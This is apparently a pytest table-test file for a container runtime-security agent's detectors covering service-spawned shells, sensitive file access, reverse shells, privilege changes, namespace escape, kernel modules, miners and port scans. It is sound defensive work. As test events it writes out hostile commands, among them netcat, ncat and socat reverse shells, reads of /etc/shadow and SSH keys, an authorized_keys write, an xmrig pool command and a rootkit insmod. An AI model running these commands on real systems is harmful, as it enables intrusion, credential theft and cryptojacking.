# SPDX-License-Identifier: Apache-2.0
"""Table tests of every rule detector on constructed events (no kernel, no threads)."""

from __future__ import annotations

import dataclasses
import socket
from dataclasses import dataclass, field
from typing import Any

import pytest

from agent.detectors.registry import BY_ID, DETECTORS
from agent.detectors.runtime_socket import unix_path_from_saddr
from agent.detectors.spec import DetectorState
from agent.events import (
    AuditEvent,
    ContainerRef,
    Event,
    FileOpen,
    FlowWindow,
    NetConnect,
    PrivilegeEvent,
    ProcessExec,
    ProcSnapshot,
)
from agent.findings import Severity, Source
from agent.settings.detectors import DetectorsSettings

C = ContainerRef(id="c0ffee" * 10 + "abcd", name="web", image="nginx:1")
INIT_PID = 4242


def exe(
    comm: str,
    filename: str = "",
    argv: tuple[str, ...] = (),
    *,
    pid: int = 5000,
    ppid: int = 4300,
    parent: str = "httpd",
    uid: int = 33,
    stdio: tuple[str, ...] = (),
    origin: str = "",
    container: ContainerRef | None = C,
) -> ProcessExec:
    return ProcessExec(
        ts=1000.0,
        cgroup_id=77,
        pid=pid,
        container=container,
        ppid=ppid,
        uid=uid,
        comm=comm,
        filename=filename or f"/bin/{comm}",
        argv=argv or (filename or f"/bin/{comm}",),
        parent_comm=parent,
        stdio=stdio,
        exe_origin=origin,
    )


def fopen(path: str, write: bool = False, ret: int = 3, comm: str = "cat") -> FileOpen:
    return FileOpen(
        ts=1000.0,
        cgroup_id=77,
        pid=5000,
        container=C,
        comm=comm,
        path=path,
        flags=1 if write else 0,
        write=write,
        ret=ret,
    )


def priv(
    syscall: str, args: tuple[int, ...] = (), uid: int = 1000, ret: int = 0, comm: str = "exploit"
) -> PrivilegeEvent:
    return PrivilegeEvent(
        ts=1000.0,
        cgroup_id=77,
        pid=5000,
        container=C,
        comm=comm,
        syscall=syscall,
        args=args,
        uid=uid,
        ret=ret,
    )


def conn(dport: int, daddr: str = "203.0.113.9", op: str = "connect", family: int = socket.AF_INET) -> NetConnect:
    return NetConnect(
        ts=1000.0,
        cgroup_id=77,
        pid=5000,
        container=C,
        op=op,
        comm="worker",
        family=family,
        protocol="tcp",
        saddr="10.0.0.2",
        sport=40000,
        daddr=daddr,
        dport=dport,
    )


def audit(
    syscall: str, paths: tuple[str, ...], fields: dict[str, str] | None = None, exit_: int = 3, cwd: str = "/"
) -> AuditEvent:
    return AuditEvent(
        ts=1000.0,
        cgroup_id=77,
        pid=5000,
        container=C,
        serial=9,
        record_types=("SYSCALL", "PATH"),
        syscall=syscall,
        success=exit_ >= 0,
        exit=exit_,
        comm="cat",
        exe="/bin/cat",
        paths=paths,
        cwd=cwd,
        fields=fields or {},
    )


def snap(*exes: tuple[int, str, str]) -> ProcSnapshot:
    return ProcSnapshot(
        ts=1000.0,
        cgroup_id=77,
        container=C,
        processes=3,
        threads=3,
        fds=9,
        cpu_seconds=1.0,
        rss_bytes=1,
        suspicious_exes=exes,
    )


def flow(dns: tuple[str, ...], ports: tuple[int, ...] = ()) -> FlowWindow:
    return FlowWindow(
        ts=1000.0,
        cgroup_id=77,
        container=C,
        start=990.0,
        end=1000.0,
        dns_names=frozenset(dns),
        dst_ports=frozenset(ports),
    )


@dataclass
class Case:
    id: str
    detector: str
    event: Event
    expect: dict[str, Any] | None  # None: no finding; else evidence keys (plus severity/mitre)
    state: dict[str, Any] = field(default_factory=dict)


CASES = [
    # --- RG-0001 shell spawned by a service ----------------------------------------------
    Case("httpd-spawns-sh", "RG-0001", exe("sh", argv=("sh", "-c", "id")), {"parent": "httpd", "comm": "sh"}),
    Case("java-spawns-bash", "RG-0001", exe("bash", parent="java"), {"parent": "java"}),
    Case(
        "busybox-applet-sh",
        "RG-0001",
        exe("busybox", "/bin/busybox", ("busybox", "sh", "-c", "id")),
        {"comm": "busybox"},
    ),
    Case(
        "cgi-script-interpreter",
        "RG-0001",
        exe("x.cgi", "/var/www/cgi-bin/x.cgi", ("/bin/sh", "/var/www/cgi-bin/x.cgi")),
        None,
    ),
    Case("shell-from-shell", "RG-0001", exe("sh", parent="bash"), None),
    Case("docker-exec-shell", "RG-0001", exe("sh", parent="containerd-shim"), None),
    Case("runc-init-parent", "RG-0001", exe("sh", parent="runc:[2:INIT]"), None),
    Case("runc-child-parent", "RG-0001", exe("sh", parent="runc:[1:CHILD]"), None),
    Case("long-shim-name-truncated", "RG-0001", exe("bash", parent="containerd-shim"), None),
    Case("entrypoint-is-init", "RG-0001", exe("sh", pid=INIT_PID, parent="dockerd"), None, {"init": INIT_PID}),
    Case("unknown-parent", "RG-0001", exe("sh", parent=""), None),
    Case("not-a-shell", "RG-0001", exe("ls", parent="httpd"), None),
    Case("sshd-session", "RG-0001", exe("bash", parent="sshd"), None),
    # --- RG-0002 sensitive files -------------------------------------------------------
    Case(
        "read-shadow",
        "RG-0002",
        fopen("/etc/shadow"),
        {"path": "/etc/shadow", "write": False, "mitre": "T1003.008"},
    ),
    Case("read-ssh-key", "RG-0002", fopen("/root/.ssh/id_ed25519"), {"mitre": "T1552.004"}),
    Case(
        "write-authorized-keys",
        "RG-0002",
        fopen("/home/app/.ssh/authorized_keys", write=True),
        {"mitre": "T1098.004"},
    ),
    Case("write-etc", "RG-0002", fopen("/etc/crontab", write=True), {"write": True, "severity": Severity.HIGH}),
    Case("read-etc-plain", "RG-0002", fopen("/etc/hosts"), None),
    Case(
        "failed-read-shadow",
        "RG-0002",
        fopen("/etc/shadow", ret=-13),
        {"succeeded": False, "severity": Severity.MEDIUM},
    ),
    Case("proc-mem", "RG-0002", fopen("/proc/1/mem"), {"mitre": "T1055.009"}),
    Case("runtime-socket-not-here", "RG-0002", fopen("/var/run/docker.sock", write=True), None),
    Case(
        "audit-openat-shadow",
        "RG-0002",
        audit("openat", ("/etc/shadow",), {"a2": "0"}),
        {"path": "/etc/shadow", "syscall": "openat"},
    ),
    Case(
        "audit-openat-write-passwd",
        "RG-0002",
        audit("openat", ("/etc/passwd",), {"a2": "241"}),
        {"write": True},
    ),
    Case("audit-open-read-passwd", "RG-0002", audit("open", ("/etc/passwd",), {"a1": "0"}), None),
    Case(
        "audit-create-skips-parent-dir",
        "RG-0002",
        audit("openat", ("/etc/", "/etc/cron.d/x"), {"a2": "941"}),
        {"path": "/etc/cron.d/x", "write": True},
    ),
    Case(
        "audit-relative-to-cwd",
        "RG-0002",
        audit("openat", ("shadow",), {"a2": "0"}, cwd="/etc"),
        {"path": "/etc/shadow"},
    ),
    Case(
        "audit-relative-dotdot",
        "RG-0002",
        audit("open", ("../etc/shadow",), {"a1": "0"}, cwd="/root"),
        {"path": "/etc/shadow"},
    ),
    Case("audit-garbage-flags", "RG-0002", audit("openat", ("/etc/passwd",), {"a2": "zz"}), None),
    # --- RG-0003 package managers ------------------------------------------------------
    Case(
        "apt-get-install",
        "RG-0003",
        exe("apt-get", "/usr/bin/apt-get", ("apt-get", "install", "-y", "nmap")),
        {"tool": "apt-get"},
    ),
    Case(
        "busybox-dpkg-list-is-low",
        "RG-0003",
        exe("dpkg", "/bin/dpkg", ("dpkg", "-l")),
        {"tool": "dpkg", "query_only": True, "severity": Severity.LOW},
    ),
    Case(
        "dpkg-print-architecture-is-low",
        "RG-0003",
        exe("dpkg", "/usr/bin/dpkg", ("dpkg", "--print-architecture")),
        {"severity": Severity.LOW, "subject": "dpkg:query"},
    ),
    Case("apk-info-is-low", "RG-0003", exe("apk", "/sbin/apk", ("apk", "info", "-v")), {"severity": Severity.LOW}),
    Case(
        "apt-get-install-local-deb",  # the twin of the queries: adds software, MEDIUM
        "RG-0003",
        exe("apt-get", "/usr/bin/apt-get", ("apt-get", "install", "-y", "/tmp/app.deb")),
        {"query_only": False, "severity": Severity.MEDIUM},
    ),
    Case(
        "dpkg-install",
        "RG-0003",
        exe("dpkg", "/usr/bin/dpkg", ("dpkg", "-i", "/tmp/app.deb")),
        {"severity": Severity.MEDIUM, "subject": "dpkg"},
    ),
    Case("apk-add", "RG-0003", exe("apk", "/sbin/apk", ("apk", "add", "curl")), {"tool": "apk"}),
    Case("pip-install", "RG-0003", exe("pip", "/usr/bin/pip", ("pip", "install", "requests")), {"tool": "pip"}),
    Case("pip-list", "RG-0003", exe("pip", "/usr/bin/pip", ("pip", "list")), None),
    Case("npm-i", "RG-0003", exe("npm", "/usr/bin/npm", ("npm", "i", "left-pad")), {"tool": "npm"}),
    Case("npm-start", "RG-0003", exe("npm", "/usr/bin/npm", ("npm", "start")), None),
    Case(
        "python-m-pip",
        "RG-0003",
        exe("python3", "/usr/bin/python3", ("python3", "-m", "pip", "install", "x")),
        {"tool": "python3 -m pip"},
    ),
    Case("host-apt", "RG-0003", exe("apt", "/usr/bin/apt", ("apt", "update"), container=None), None),
    # --- RG-0004 exec from writable dirs / memory --------------------------------------
    Case("tmp-binary", "RG-0004", exe("x", "/tmp/x"), {"why": "writable_dir", "filename": "/tmp/x"}),
    Case("dev-shm", "RG-0004", exe("kworker", "/dev/shm/.k"), {"why": "writable_dir"}),
    Case("var-tmp", "RG-0004", exe("a", "/var/tmp/a"), {"why": "writable_dir"}),
    Case("memfd-origin", "RG-0004", exe("3", "/dev/fd/3", origin="memfd"), {"why": "memfd", "mitre": "T1620"}),
    Case("fexecve-fd", "RG-0004", exe("3", "/dev/fd/3"), {"why": "fd_exec", "mitre": "T1620"}),
    Case("fexecve-proc-self-fd", "RG-0004", exe("5", "/proc/self/fd/5"), {"why": "fd_exec"}),
    Case("dev-fd-dir-not-exec", "RG-0004", exe("x", "/dev/fd/x"), None),
    Case("fexecve-program-from-argv", "RG-0004", exe("4", "/dev/fd/4", ("sleep", "2")), {"program": "sleep"}),
    Case("memfd-name", "RG-0004", exe("x", "/memfd:payload (deleted)"), {"why": "memfd"}),
    Case("deleted-origin", "RG-0004", exe("x", "/usr/bin/x", origin="deleted"), {"why": "deleted"}),
    Case("usr-bin", "RG-0004", exe("ls", "/usr/bin/ls"), None),
    Case("tmpfoo-not-tmp", "RG-0004", exe("x", "/tmpfoo/x"), None),
    Case(
        "snapshot-memfd",
        "RG-0004",
        snap((12, "/memfd:x (deleted)", "memfd")),
        {"why": "memfd", "exe_pid": 12},
    ),
    Case(
        "snapshot-not-in-image",
        "RG-0004",
        snap((13, "/usr/local/bin/tool", "not_in_image")),
        {"why": "not_in_image", "severity": Severity.LOW},
    ),
    Case(
        "snapshot-prefers-worst",
        "RG-0004",
        snap((13, "/usr/local/bin/tool", "not_in_image"), (14, "/tmp/.x", "deleted")),
        {"why": "writable_dir", "exe_pid": 14, "severity": Severity.HIGH},
    ),
    Case("snapshot-empty", "RG-0004", snap(), None),
    # --- RG-0005 reverse shells --------------------------------------------------------
    Case("nc-e", "RG-0005", exe("nc", argv=("nc", "10.0.0.1", "4444", "-e", "/bin/sh")), {"how": "-e /bin/sh"}),
    Case(
        "busybox-nc-e",
        "RG-0005",
        exe("busybox", "/bin/busybox", ("busybox", "nc", "-l", "-p", "80", "-e", "sh")),
        {"how": "-e sh"},
    ),
    Case("nc-glued-e", "RG-0005", exe("nc", argv=("nc", "-e/bin/sh", "h", "1")), {"how": "-e/bin/sh"}),
    Case("nc-cluster-lvpe", "RG-0005", exe("nc", argv=("nc", "-lvpe", "sh")), {"how": "-lvpe sh"}),
    Case(
        "ncat-sh-exec",
        "RG-0005",
        exe("ncat", argv=("ncat", "--sh-exec", "bash -i", "h", "1")),
        {"how": "--sh-exec bash -i"},
    ),
    Case(
        "ncat-exec-eq",
        "RG-0005",
        exe("ncat", argv=("ncat", "--exec=/bin/bash", "h", "1")),
        {"how": "--exec=/bin/bash"},
    ),
    Case(
        "selfexe-nc-e",
        "RG-0005",
        exe("exe", "/proc/self/exe", ("nc", "-l", "-p", "9001", "-e", "sh")),
        {"how": "-e sh", "program": "nc"},
    ),
    Case(
        "selfexe-sh-socket",
        "RG-0005",
        exe("exe", "/proc/self/exe", ("sh",), stdio=("socket:[1]", "socket:[1]", "pipe:[2]")),
        {"program": "sh", "severity": Severity.CRITICAL},
    ),
    Case("nc-plain", "RG-0005", exe("nc", argv=("nc", "-v", "db", "5432")), None),
    Case(
        "socat-exec",
        "RG-0005",
        exe("socat", argv=("socat", "tcp:h:1", "EXEC:/bin/sh,pty,stderr")),
        {"how": "EXEC:/bin/sh,pty,stderr"},
    ),
    Case(
        "socat-system",
        "RG-0005",
        exe("socat", argv=("socat", "TCP-LISTEN:9", "system:'id'")),
        {"how": "system:'id'"},
    ),
    Case("socat-relay", "RG-0005", exe("socat", argv=("socat", "TCP-LISTEN:80", "TCP:backend:80")), None),
    Case(
        "sh-stdin-socket",
        "RG-0005",
        exe("sh", stdio=("socket:[123]", "socket:[123]", "socket:[123]")),
        {"severity": Severity.CRITICAL},
    ),
    Case(
        "sh-stdout-socket",
        "RG-0005",
        exe("bash", stdio=("pipe:[1]", "socket:[9]", "pipe:[2]")),
        {"stdio": ["pipe:[1]", "socket:[9]", "pipe:[2]"]},
    ),
    Case("sh-stderr-socket-only", "RG-0005", exe("sh", stdio=("/dev/null", "/dev/null", "socket:[9]")), None),
    Case("sh-tty", "RG-0005", exe("sh", stdio=("/dev/pts/0", "/dev/pts/0", "/dev/pts/0")), None),
    Case("python-socket", "RG-0005", exe("python3", stdio=("socket:[1]", "socket:[1]")), None),
    # --- RG-0006 privilege change ------------------------------------------------------
    Case("setuid0-nonroot", "RG-0006", priv("setuid", (0,)), {"syscall": "setuid", "succeeded": True}),
    Case("setuid0-root", "RG-0006", priv("setuid", (0,), uid=0), None),
    Case("setuid-drop", "RG-0006", priv("setuid", (1000,)), None),
    Case(
        "setresuid-keep-root",
        "RG-0006",
        priv("sys_setresuid", (0xFFFFFFFF, 0, 0xFFFFFFFF)),
        {"syscall": "setresuid"},
    ),
    Case("setresuid-minus-one-signed", "RG-0006", priv("setresuid", (-1, -1, -1)), None),
    Case("setuid0-failed", "RG-0006", priv("setuid", (0,), ret=-1), {"severity": Severity.MEDIUM}),
    Case("capset", "RG-0006", priv("capset", uid=0), {"severity": Severity.LOW}),
    Case("runc-capset", "RG-0006", priv("capset", uid=0, comm="runc:[2:INIT]"), None),
    # --- RG-0007 ptrace ---------------------------------------------------------------
    Case("ptrace-attach", "RG-0007", priv("ptrace", (16, 77)), {"request": "PTRACE_ATTACH", "target_pid": 77}),
    Case("ptrace-seize", "RG-0007", priv("ptrace", (0x4206, 77)), {"request": "PTRACE_SEIZE"}),
    Case("ptrace-traceme", "RG-0007", priv("ptrace", (0, 0)), None),
    Case("ptrace-peek", "RG-0007", priv("ptrace", (2, 77)), None),
    Case("ptrace-noargs", "RG-0007", priv("ptrace"), {"severity": Severity.MEDIUM}),
    # --- RG-0008 namespace escape ------------------------------------------------------
    Case("mount", "RG-0008", priv("mount", uid=0), {"syscall": "mount"}),
    Case(
        "unshare-failed",
        "RG-0008",
        priv("unshare", (0x20000,), ret=-1),
        {"severity": Severity.MEDIUM, "succeeded": False},
    ),
    Case("setns", "RG-0008", priv("__x64_sys_setns", uid=0), {"syscall": "setns"}),
    Case("runc-mount", "RG-0008", priv("mount", uid=0, comm="runc:[2:INIT]"), None),
    Case("chroot", "RG-0008", priv("chroot", uid=0), {"severity": Severity.MEDIUM}),
    Case("setuid-not-ns", "RG-0008", priv("setuid", (0,)), None),
    # --- RG-0009 kernel modules --------------------------------------------------------
    Case("finit-module-failed", "RG-0009", priv("finit_module", ret=-1), {"severity": Severity.HIGH}),
    Case("init-module-ok", "RG-0009", priv("init_module", uid=0), {"severity": Severity.CRITICAL}),
    Case("bpf-not-module", "RG-0009", priv("bpf"), None),
    Case(
        "insmod-exec",
        "RG-0009",
        exe("insmod", "/sbin/insmod", ("insmod", "/root/rk.ko")),
        {"severity": Severity.MEDIUM},
    ),
    Case(
        "busybox-selfexe-modprobe",
        "RG-0009",
        exe("exe", "/proc/self/exe", ("modprobe", "rootkit")),
        {"program": "modprobe"},
    ),
    Case("modprobe-dry-run", "RG-0009", exe("modprobe", "/sbin/modprobe", ("modprobe", "-n", "x")), None),
    Case("modprobe-no-module", "RG-0009", exe("modprobe", "/sbin/modprobe", ("modprobe", "-V")), None),
    # --- RG-0010 bpf ---------------------------------------------------------------------
    Case("bpf-prog-load", "RG-0010", priv("bpf", (5,), uid=0), {"cmd": "BPF_PROG_LOAD"}),
    Case(
        "bpf-map-create-failed",
        "RG-0010",
        priv("bpf", (0,), ret=-1),
        {"cmd": "BPF_MAP_CREATE", "severity": Severity.MEDIUM},
    ),
    Case("ptrace-not-bpf", "RG-0010", priv("ptrace", (16, 1)), None),
    # --- RG-0011 runtime sockets ------------------------------------------------------
    Case(
        "open-docker-sock",
        "RG-0011",
        fopen("/var/run/docker.sock"),
        {"path": "/var/run/docker.sock", "how": "open"},
    ),
    Case(
        "open-containerd-sock",
        "RG-0011",
        fopen("/run/containerd/containerd.sock"),
        {"severity": Severity.CRITICAL},
    ),
    Case("open-shadow-not-here", "RG-0011", fopen("/etc/shadow"), None),
    Case("unix-connect", "RG-0011", conn(0, "/run/docker.sock", family=socket.AF_UNIX), {"how": "connect"}),
    Case("inet-connect-not-here", "RG-0011", conn(2375), None),
    Case("audit-path", "RG-0011", audit("connect", ("/var/run/docker.sock",)), {"path": "/var/run/docker.sock"}),
    Case(
        "audit-saddr",
        "RG-0011",
        audit(
            "connect",
            (),
            {"saddr": (socket.AF_UNIX.to_bytes(2, "little") + b"/run/docker.sock\0").hex().upper()},
        ),
        {"path": "/run/docker.sock"},
    ),
    # --- RG-0012 miners ------------------------------------------------------------------
    Case(
        "xmrig-argv",
        "RG-0012",
        exe("xmrig", "/opt/xmrig", ("xmrig", "-o", "stratum+tcp://pool.x:3333")),
        {"matched": ["stratum+tcp://", "xmrig"]},
    ),
    Case(
        "renamed-miner",
        "RG-0012",
        exe("kthreadd", "/tmp/k", ("k", "--donate-level", "1")),
        {"matched": ["--donate-level"]},
    ),
    Case("ordinary-exec", "RG-0012", exe("ls", argv=("ls", "-l")), None),
    Case("pool-port", "RG-0012", conn(3333), {"peer": "203.0.113.9:3333", "severity": Severity.MEDIUM}),
    Case("pool-port-14444", "RG-0012", conn(14444), {"dport": 14444}),
    Case("https", "RG-0012", conn(443), None),
    Case("listen-on-pool-port", "RG-0012", conn(3333, op="listen"), None),
    Case(
        "dns-pool",
        "RG-0012",
        flow(("xmr.supportxmr.com", "example.org"), (3333, 443)),
        {"dns_names": ["xmr.supportxmr.com"], "pool_ports": [3333]},
    ),
    Case("dns-ntp-pool", "RG-0012", flow(("0.debian.pool.ntp.org", "pool.ntp.org.")), None),
    Case("dns-connection-pool-service", "RG-0012", flow(("db-pool.svc.cluster.local", "pgpool.internal")), None),
    Case("dns-pool-label", "RG-0012", flow(("xmr.pool.example.net",)), {"dns_names": ["xmr.pool.example.net"]}),
    # --- RG-0013 network scans: prior connect attempts are the component's memory --------
    Case(
        "port-scan",
        "RG-0013",
        conn(20),
        {"kind": "port_scan", "target": "203.0.113.9", "count": 20, "mitre": "T1046"},
        {"connects": [(995.0 + i * 0.1, "203.0.113.9", i) for i in range(1, 20)]},
    ),
    Case(
        "host-sweep",
        "RG-0013",
        conn(22, daddr="10.0.0.200"),
        {"kind": "host_sweep", "port": 22, "count": 20},
        {"connects": [(999.0, f"10.0.0.{i}", 22) for i in range(1, 20)]},
    ),
    Case(
        "below-threshold",
        "RG-0013",
        conn(19),
        None,
        {"connects": [(999.0, "203.0.113.9", i) for i in range(1, 18)]},
    ),
    Case(
        "old-attempts-expire",
        "RG-0013",
        conn(20),
        None,
        {"connects": [(900.0, "203.0.113.9", i) for i in range(1, 20)]},
    ),
    Case("one-connect", "RG-0013", conn(443), None),
    Case(
        "burst-already-reported",
        "RG-0013",
        conn(25),
        None,
        {"connects": [(999.0, "203.0.113.9", i) for i in range(1, 25)]},
    ),
    Case(
        "flow-scan",
        "RG-0013",
        FlowWindow(
            ts=1000.0,
            cgroup_id=77,
            container=C,
            start=990.0,
            end=1000.0,
            dst_ports=frozenset(range(1, 31)),
            syn_sent=30,
            syn_unanswered=28,
        ),
        {"kind": "port_scan", "syn_unanswered": 28},
    ),
    Case(
        "flow-many-answered-ports",
        "RG-0013",
        FlowWindow(
            ts=1000.0,
            cgroup_id=77,
            container=C,
            start=990.0,
            end=1000.0,
            dst_ports=frozenset(range(1, 31)),
            syn_sent=30,
            syn_unanswered=0,
        ),
        None,
    ),
]


def _state(case: Case) -> DetectorState:
    st = DetectorState(settings=DetectorsSettings())
    init = case.state.get("init", 0)
    st.init_pid = lambda cid: init if cid == C.id else 0
    for ts, daddr, dport in case.state.get("connects", ()):
        st.remember_connect(dataclasses.replace(conn(dport, daddr=daddr), ts=ts), 10.0)
    return st


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_detector_table(case: Case) -> None:
    d = BY_ID[case.detector]
    assert isinstance(case.event, d.events), f"{case.detector} does not declare {case.event.kind}"
    f = d.evaluate(case.event, _state(case))
    if case.expect is None:
        assert f is None, f"unexpected finding: {f}"
        return
    assert f is not None, "expected a finding"
    assert f.detector_id == d.id
    assert f.source is Source.RULE
    assert f.container == C
    assert f.ts == case.event.ts
    assert f.summary
    assert f.evidence["pid"] == case.event.pid
    assert f.evidence["subject"]
    expect = dict(case.expect)
    assert f.severity == expect.pop("severity", f.severity)
    assert f.mitre == expect.pop("mitre", f.mitre)
    assert f.mitre.startswith("T")
    for key, value in expect.items():
        assert f.evidence[key] == value, key


def test_every_detector_has_positive_and_negative_cases() -> None:
    from tests.unit.detectors.sequence_cases import SEQUENCE_RULES

    for d in DETECTORS:
        if d.id in SEQUENCE_RULES:
            continue  # rules on event sequences: their table is test_post_exploitation.py
        mine = [c for c in CASES if c.detector == d.id]
        assert any(c.expect is not None for c in mine), d.id
        assert any(c.expect is None for c in mine), d.id


def test_parent_from_earlier_exec() -> None:
    # The source did not name the parent; an exec of the parent seen before names it.
    st = DetectorState()
    st.remember_exec(exe("httpd", "/usr/sbin/httpd", pid=4300, parent="containerd-shim"))
    f = BY_ID["RG-0001"].evaluate(exe("sh", parent="", ppid=4300), st)
    assert f is not None and f.evidence["parent"] == "httpd"
    # another container's pid 4300 is someone else
    other = ContainerRef(id="ff" * 32, name="db", image="pg")
    assert BY_ID["RG-0001"].evaluate(exe("sh", parent="", ppid=4300, container=other), st) is None


def test_parent_named_exe_is_resolved_from_the_earlier_exec() -> None:
    # busybox ash re-execs /proc/self/exe for applets: the kernel names the parent "exe".
    st = DetectorState()
    st.remember_exec(exe("exe", "/proc/self/exe", ("sh", "-c", "x"), pid=4300, parent="containerd-shim"))
    assert BY_ID["RG-0001"].evaluate(exe("sh", parent="exe", ppid=4300), st) is None
    st.remember_exec(exe("exe", "/proc/self/exe", ("httpd", "-f"), pid=4301, parent="sh"))
    f = BY_ID["RG-0001"].evaluate(exe("sh", parent="exe", ppid=4301), st)
    assert f is not None and f.evidence["parent"] == "httpd"


def test_remember_is_bounded() -> None:
    st = DetectorState()
    st.lineage.max_entries = 3
    for pid in range(10):
        st.remember_exec(exe("x", pid=pid))
    assert len(st.lineage.procs) == 3
    assert st.lineage.get(C.id, 9) is not None and st.lineage.get(C.id, 0) is None


def test_settings_change_behaviour() -> None:
    st = DetectorState(settings=DetectorsSettings(trusted_shell_parents=("httpd",)))
    assert BY_ID["RG-0001"].evaluate(exe("sh"), st) is None
    st = DetectorState(settings=DetectorsSettings(miner_ports=(9999,)))
    assert BY_ID["RG-0012"].evaluate(conn(3333), st) is None
    assert BY_ID["RG-0012"].evaluate(conn(9999), st) is not None


@pytest.mark.parametrize(
    ("raw", "path"),
    [
        ((1).to_bytes(2, "little") + b"/var/run/docker.sock\0\0\0", "/var/run/docker.sock"),
        ((1).to_bytes(2, "little") + b"\0abstract", ""),
        ((2).to_bytes(2, "little") + b"\x1f\x90\x7f\0\0\x01", ""),
        (b"\x01", ""),
    ],
)
def test_unix_path_from_saddr(raw: bytes, path: str) -> None:
    assert unix_path_from_saddr(raw.hex()) == path


def test_unix_path_from_bad_hex() -> None:
    assert unix_path_from_saddr("not hex") == ""


def test_rg0004_below_a_package_manager_is_medium() -> None:
    st = DetectorState()
    st.remember_exec(exe("pip", "/usr/bin/pip", ("pip", "install", "pkg"), pid=4300, ppid=4200, parent="sh"))
    f = BY_ID["RG-0004"].evaluate(exe("cmake", "/tmp/pip-build-env-x/bin/cmake", ppid=4300, parent="pip"), st)
    assert f is not None and f.severity is Severity.MEDIUM and f.evidence["package_manager"] == "pip"
    # the twin: the same drop-and-run below a shell stays HIGH
    st.remember_exec(exe("sh", "/bin/sh", ("sh",), pid=4301, ppid=4200, parent="containerd-shim"))
    g = BY_ID["RG-0004"].evaluate(exe("x", "/tmp/x", pid=5001, ppid=4301, parent="sh"), st)
    assert g is not None and g.severity is Severity.HIGH and "package_manager" not in g.evidence
